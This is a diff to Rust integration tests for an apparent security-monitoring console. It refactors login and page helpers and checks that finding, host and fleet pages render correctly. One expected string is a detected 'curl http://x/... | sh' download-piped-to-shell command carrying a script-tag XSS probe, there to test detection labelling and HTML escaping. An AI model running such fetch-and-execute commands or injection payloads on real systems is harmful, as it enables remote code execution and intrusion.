@@ -59,36 +59,6 @@ async fn upload(c: &TestConsole, a: &Agent, findings: Vec<Value>) {
     assert_eq!(status, StatusCode::OK, "{v}");
 }
 
-/// Sign in with the login form: the session cookie.
-async fn session(c: &TestConsole) -> String {
-    let (status, headers, _) = c
-        .call_raw(
-            "POST",
-            "/login",
-            None,
-            &[("content-type", "application/x-www-form-urlencoded")],
-            Some(b"name=admin&password=hunter2-but-longer".to_vec()),
-        )
-        .await;
-    assert_eq!(status, StatusCode::SEE_OTHER);
-    headers["set-cookie"]
-        .to_str()
-        .unwrap()
-        .split(';')
-        .next()
-        .unwrap()
-        .to_owned()
-}
-
-async fn page(c: &TestConsole, cookie: &str, path: &str) -> String {
-    let (status, _, body) = c
-        .call_raw("GET", path, None, &[("cookie", cookie)], None)
-        .await;
-    let html = String::from_utf8(body).unwrap();
-    assert_eq!(status, StatusCode::OK, "{path}: {html}");
-    html
-}
-
 /// Every finding the API reaches under `query`, paging with its cursor; the pages' sizes.
 async fn all_pages(c: &TestConsole, query: &str) -> (Vec<i64>, Vec<usize>) {
     all_pages_from(c, query, None).await
@@ -265,8 +235,8 @@ async fn findings_read_and_triage(b: Backend) {
 
     // The finding page: a sentence, the tree, ATT&CK names and links, the rule, the history,
     // the raw event behind a toggle, the host's other findings; hostile text escaped.
-    let cookie = session(&c).await;
-    let html = page(&c, &cookie, &format!("/findings/{curl}")).await;
+    let cookie = c.session().await;
+    let html = c.page(&cookie, &format!("/findings/{curl}")).await;
     for want in [
         "Download piped to a shell: sh -c &#39;curl http://x/&lt;script&gt;alert(1)&lt;/script&gt; | sh&#39; \\u{202e} run by www-data under nginx on web-3",
         "aria-label=\"process tree\"",
@@ -293,17 +263,17 @@ async fn findings_read_and_triage(b: Backend) {
     assert!(html.matches("href=\"/findings/").count() >= 2, "{html}");
 
     // The list: words and colours for severity, a sentence per row, filters kept in the form.
-    let list = page(&c, &cookie, "/findings?severity=medium").await;
+    let list = c.page(&cookie, "/findings?severity=medium").await;
     assert!(list.contains("class=\"badge sev-medium\""), "{list}");
     assert!(!list.contains("sev-high"), "{list}");
     assert!(list.contains("<option selected>medium</option>"), "{list}");
-    let grouped = page(&c, &cookie, "/findings?group=technique").await;
+    let grouped = c.page(&cookie, "/findings?group=technique").await;
     assert!(grouped.contains("/findings?technique=T1082"), "{grouped}");
 
     // The host page: versions, health, its findings, its orders.
     let mut a2 = a.clone();
     c.checkin(&mut a2, json!({"crashes": 1})).await;
-    let host = page(&c, &cookie, &format!("/agents/{}", a.id)).await;
+    let host = c.page(&cookie, &format!("/agents/{}", a.id)).await;
     for want in [
         "agent version",
         "0.1.0",
@@ -328,7 +298,7 @@ async fn findings_read_and_triage(b: Backend) {
         .await;
     assert_eq!(status, StatusCode::NOT_FOUND);
     // The fleet page draws findings over time by severity.
-    let fleet = page(&c, &cookie, "/fleet").await;
+    let fleet = c.page(&cookie, "/fleet").await;
     assert!(
         fleet.contains("aria-label=\"findings per hour by severity\""),
         "{fleet}"
@@ -401,21 +371,23 @@ async fn a_flooding_agent_cannot_push_others_out_of_reach(b: Backend) {
     );
 
     // The dashboard reaches them too: by host, and page after page.
-    let cookie = session(&c).await;
-    let html = page(&c, &cookie, &format!("/findings?agent={}", quiet.id)).await;
+    let cookie = c.session().await;
+    let html = c
+        .page(&cookie, &format!("/findings?agent={}", quiet.id))
+        .await;
     assert_eq!(
         html.matches("class=\"badge sev-medium\"").count(),
         5,
         "{html}"
     );
-    let first_page = page(&c, &cookie, "/findings").await;
+    let first_page = c.page(&cookie, "/findings").await;
     let next = first_page
         .split("id=\"next-page\" href=\"")
         .nth(1)
         .and_then(|s| s.split('"').next())
         .expect("a next page link")
         .replace("&amp;", "&");
-    let second = page(&c, &cookie, &next).await;
+    let second = c.page(&cookie, &next).await;
     assert!(second.contains("flood"), "{second}");
 
     // Retention trims the flooding agent to its share; the quiet agent keeps everything.
